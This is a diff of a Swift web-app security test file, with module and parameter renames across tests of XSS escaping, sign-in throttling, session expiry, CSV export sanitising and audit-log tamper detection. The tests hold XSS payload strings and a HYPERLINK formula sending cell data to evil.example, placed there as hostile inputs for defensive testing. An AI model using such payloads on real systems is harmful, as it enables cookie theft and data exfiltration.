@@ -5,7 +5,13 @@ import VaporTesting
 import Fluent
 import SQLKit
 @testable import WebApp
-import Store
+import Core
+import Persistence
+import Audit
+import Organizations
+import Roster
+import Accounts
+import Demo
 import Documents
 
 /// Signs in through the API; returns the cookie header and the CSRF token.
@@ -25,7 +31,7 @@ func apiSignIn(_ app: Application, _ username: String, _ password: String, from 
     return (headers, status)
 }
 
-func sessionRows(_ app: Application) async throws -> Int { try await SessionStore.count(on: app.db) }
+func sessionRows(_ app: Application) async throws -> Int { try await SessionStore.count(in: app.db.data) }
 
 @Suite(.serialized) struct SecurityTests {
     static let payloads = ["测试');alert(document.cookie);//", "\"><img src=x onerror=alert(1)>"]
@@ -35,7 +41,7 @@ func sessionRows(_ app: Application) async throws -> Int { try await SessionStor
     @Test func hostileNamesNeverReachAScript() async throws {
         try await withXuanjuApp { app in
             let generator = DemoGenerator(memberCount: 50)
-            _ = try await DemoLoader.load(generator, into: app.db)
+            _ = try await DemoLoader.load(generator, into: app.db.data)
             let wuling = try #require(generator.unitIDs["wuling"])
             let admin = try await apiSignIn(app, "admin", "管理员密码123").headers
             var created: [String] = []
@@ -44,7 +50,7 @@ func sessionRows(_ app: Application) async throws -> Int { try await SessionStor
                     try req.content.encode(["name": payload, "kind": "支部", "parentId": wuling.uuidString], as: .json)
                 }) { res in
                     #expect(res.status == .created, "\(res.body.string)")
-                    created.append(try res.content.decode(APIOrganization.self).id.uuidString)
+                    created.append(try res.content.decode(APIOrganization.self).id.description)
                 }
                 try await app.testing().test(.POST, "/api/v1/users", headers: admin, beforeRequest: { req in
                     try req.content.encode(["username": "xss\(i)", "displayName": payload, "role": "只读", "organizationId": wuling.uuidString], as: .json)
@@ -118,12 +124,12 @@ func sessionRows(_ app: Application) async throws -> Int { try await SessionStor
         try await withXuanjuApp { app in
             let policy = SessionStore.Policy(idle: 60, lifetime: 3600)
             let now = Date()
-            try await SessionStore.create(cookie: "a", data: ["k": "v"], userID: nil, now: now, policy: policy, on: app.db)
-            #expect(try await SessionStore.read(cookie: "a", now: now.addingTimeInterval(59), policy: policy, on: app.db)?.data == ["k": "v"])
-            #expect(try await SessionStore.read(cookie: "a", now: now.addingTimeInterval(61), policy: policy, on: app.db) == nil)
+            try await SessionStore.create(cookie: "a", data: ["k": "v"], accountID: nil, now: now, policy: policy, in: app.db.data)
+            #expect(try await SessionStore.read(cookie: "a", now: now.addingTimeInterval(59), policy: policy, in: app.db.data)?.data == ["k": "v"])
+            #expect(try await SessionStore.read(cookie: "a", now: now.addingTimeInterval(61), policy: policy, in: app.db.data) == nil)
             #expect(try await sessionRows(app) == 0, "an expired session is deleted when found")
-            try await SessionStore.create(cookie: "b", data: [:], userID: nil, now: now, policy: policy, on: app.db)
-            try await SessionStore.create(cookie: "c", data: [:], userID: nil, now: now.addingTimeInterval(120), policy: policy, on: app.db)
+            try await SessionStore.create(cookie: "b", data: [:], accountID: nil, now: now, policy: policy, in: app.db.data)
+            try await SessionStore.create(cookie: "c", data: [:], accountID: nil, now: now.addingTimeInterval(120), policy: policy, in: app.db.data)
             #expect(try await sessionRows(app) == 1, "starting a session purges the expired ones")
             // The cookie's value is not what the table holds.
             let sql = try #require(app.db as? any SQLDatabase)
@@ -140,7 +146,7 @@ func sessionRows(_ app: Application) async throws -> Int { try await SessionStor
         security.trustedProxies = ["127.0.0.1"]
         do {
             try await WebApp.configure(app, settings: WebAppSettings(target: .sqlite(path: path), adminPassword: "管理员密码123", security: security))
-            let auditBefore = try await AuditLog.head(on: app.db).seq
+            let auditBefore = try await AuditLog.head(in: app.db.data).seq
             // Over real HTTP from 127.0.0.1, the configured proxy: the address is X-Forwarded-For's.
             let http = try app.testing(method: .running(hostname: "127.0.0.1", port: Int.random(in: 20_000...40_000)))
             for _ in 0..<7 { #expect(try await apiSignIn(app, "admin", "guess", from: "203.0.113.9", over: http).status != .ok) }
@@ -162,7 +168,7 @@ func sessionRows(_ app: Application) async throws -> Int { try await SessionStor
     @Test func exportsHoldNoLiveFormula() async throws {
         try await withXuanjuApp { app in
             let generator = DemoGenerator(memberCount: 20)
-            _ = try await DemoLoader.load(generator, into: app.db)
+            _ = try await DemoLoader.load(generator, into: app.db.data)
             let admin = try await apiSignIn(app, "admin", "管理员密码123").headers
             var member: APIMember?
             try await app.testing().test(.GET, "/api/v1/members?pageSize=1", headers: admin) { res in
@@ -172,7 +178,7 @@ func sessionRows(_ app: Application) async throws -> Int { try await SessionStor
             let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")"
             record.position = formula
             record.title = "@SUM(1+1)"
-            try await app.testing().test(.PUT, "/api/v1/members/\(member!.id.uuidString)", headers: admin, beforeRequest: { req in
+            try await app.testing().test(.PUT, "/api/v1/members/\(member!.id.description)", headers: admin, beforeRequest: { req in
                 try req.content.encode(record, as: .json)
             }) { res in #expect(res.status == .ok, "\(res.body.string)") }
             try await app.testing().test(.GET, "/api/v1/members/export?format=csv", headers: admin) { res in
@@ -197,24 +203,24 @@ func sessionRows(_ app: Application) async throws -> Int { try await SessionStor
     /// table consistently, no longer matches it.
     @Test func theAuditHeadCatchesTruncationAndRewrites() async throws {
         try await withXuanjuApp { app in
-            for i in 0..<5 { try await AuditLog.append(.memberUpdated, actor: "t", object: "m\(i)", on: app.db) }
-            let head = try await AuditLog.head(on: app.db)
-            #expect(try await AuditLog.verify(expecting: head, on: app.db).firstBroken == nil)
+            for i in 0..<5 { try await AuditLog.append(.memberUpdated, actor: "t", object: "m\(i)", in: app.db.data) }
+            let head = try await AuditLog.head(in: app.db.data)
+            #expect(try await AuditLog.verify(expecting: head, in: app.db.data).firstBroken == nil)
             let sql = try #require(app.db as? any SQLDatabase)
             // Truncation: the newest entry is gone; what remains is a perfectly good chain.
             try await sql.raw("DELETE FROM audit_log WHERE seq = \(unsafeRaw: String(head.seq))").run()
-            #expect(try await AuditLog.verify(on: app.db).firstBroken == nil)
-            #expect(try await AuditLog.verify(expecting: head, on: app.db).firstBroken?.seq == head.seq)
+            #expect(try await AuditLog.verify(in: app.db.data).firstBroken == nil)
+            #expect(try await AuditLog.verify(expecting: head, in: app.db.data).firstBroken?.seq == head.seq)
             // A rewrite: the entry is back with other content and a recomputed chain.
-            try await AuditLog.append(.memberUpdated, actor: "forger", object: "m4", on: app.db)
-            let forged = try await AuditLog.head(on: app.db)
+            try await AuditLog.append(.memberUpdated, actor: "forger", object: "m4", in: app.db.data)
+            let forged = try await AuditLog.head(in: app.db.data)
             #expect(forged.seq == head.seq && forged.hash != head.hash)
-            #expect(try await AuditLog.verify(expecting: head, on: app.db).firstBroken?.reason.contains("整体改写") == true)
+            #expect(try await AuditLog.verify(expecting: head, in: app.db.data).firstBroken?.reason.contains("整体改写") == true)
             // The page checks from its checkpoint onward: a change behind the checkpoint's own entry shows.
-            #expect(try await AuditLog.verifyIncrementally(on: app.db).firstBroken == nil)
-            try await AuditLog.append(.memberUpdated, actor: "t", object: "m5", on: app.db)
+            #expect(try await AuditLog.verifyIncrementally(in: app.db.data).firstBroken == nil)
+            try await AuditLog.append(.memberUpdated, actor: "t", object: "m5", in: app.db.data)
             try await sql.raw("UPDATE audit_log SET actor = 'x' WHERE seq = \(unsafeRaw: String(forged.seq))").run()
-            #expect(try await AuditLog.verifyIncrementally(on: app.db).firstBroken?.seq == forged.seq)
+            #expect(try await AuditLog.verifyIncrementally(in: app.db.data).firstBroken?.seq == forged.seq)
         }
     }
 }
